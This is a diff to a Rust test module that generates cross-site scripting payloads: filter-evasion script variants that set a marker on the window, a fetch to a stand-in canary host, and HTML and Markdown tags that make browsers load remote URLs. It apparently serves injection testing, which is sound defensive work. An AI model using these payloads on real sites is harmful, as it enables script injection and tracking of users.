@@ -1,5 +1,6 @@
 //! Texts that try to become more than text: what strangers write into every field that somebody
-//! else sees. Each of them, if it ever runs, sets [`TRACE`] on the window it runs in.
+//! else sees. Each of them, if it ever runs, sets [`TRACE`] on the window it runs in; if it ever
+//! loads something, it asks the canary's host.
 
 /// The property of `window` that exists only where a payload was executed.
 pub const TRACE: &str = "__executed";
@@ -48,27 +49,53 @@ const TEMPLATES: [&str; 36] = [
 ];
 
 /// The same deed, written so that a filter might not know it again.
-const CODES: [&str; 14] = [
+const CODES: [&str; 12] = [
     "top.__executed=1",
     "window['__executed']=1",
     "self[`__executed`]=1",
-    "window.__executed=1//",
-    "parent.__executed=window.__executed=1",
+    "alert(window.__executed=1)",
+    "fetch('//canary.example/'+(window.__executed=1))",
     "globalThis['__exe'+'cuted']=1",
     "eval('window.__executed=1')",
     "Function('window.__executed=1')()",
     "setTimeout('window.__executed=1')",
     "eval(atob('d2luZG93Ll9fZXhlY3V0ZWQ9MQ=='))",
-    "window.\\u005f_executed=1",
     "window&#46;__executed&#61;1",
-    "window&period;__executed&equals;1",
-    "java\tscript:window.__executed\n=1",
+    "java\tscript:window.\\u005f_executed\n=1",
 ];
+
+/// Places from which a browser fetches without any script; `URL` stands for what is fetched.
+const REACHING: [&str; 17] = [
+    "<img src=\"URL\">",
+    "<img srcset=\"URL 2x\">",
+    "<link rel=stylesheet href=\"URL\">",
+    "<link rel=prefetch href=\"URL\">",
+    "<style>@import 'URL';</style>",
+    "<p style=\"background:url(URL)\">",
+    "<iframe src=\"URL\"></iframe>",
+    "<script src=\"URL\"></script>",
+    "<meta http-equiv=refresh content=\"0;url=URL\">",
+    "<base href=\"URL\">",
+    "<video poster=\"URL\"></video>",
+    "<audio src=\"URL\" autoplay>",
+    "<object data=\"URL\"></object>",
+    "<svg><image href=\"URL\"/></svg>",
+    "<body background=\"URL\">",
+    "<input type=image src=\"URL\">",
+    "![](URL)",
+];
+
+/// Ways to write the canary's address.
+const ADDRESSES: [&str; 4] =
+    ["//canary.example/x", "https://canary.example/x", "http://canary.example/x", "\\\\canary.example\\x"];
 
 /// All payloads, each different, always in the same order.
 pub fn payloads() -> Vec<String> {
-    let all = CODES.iter().flat_map(|code| TEMPLATES.iter().map(|template| template.replace("CODE", code)));
-    all.take(N_PAYLOADS).collect()
+    let running =
+        CODES.iter().flat_map(|code| TEMPLATES.iter().map(|template| template.replace("CODE", code)));
+    let reaching =
+        ADDRESSES.iter().flat_map(|address| REACHING.iter().map(|template| template.replace("URL", address)));
+    running.chain(reaching).collect()
 }
 
 #[cfg(test)]
@@ -79,6 +106,7 @@ mod tests {
 
     #[test]
     fn there_are_as_many_different_payloads_as_promised() {
-        assert_eq!(payloads().into_iter().collect::<BTreeSet<_>>().len(), N_PAYLOADS);
+        let all = payloads();
+        assert_eq!((all.len(), all.iter().collect::<BTreeSet<_>>().len()), (N_PAYLOADS, N_PAYLOADS));
     }
 }
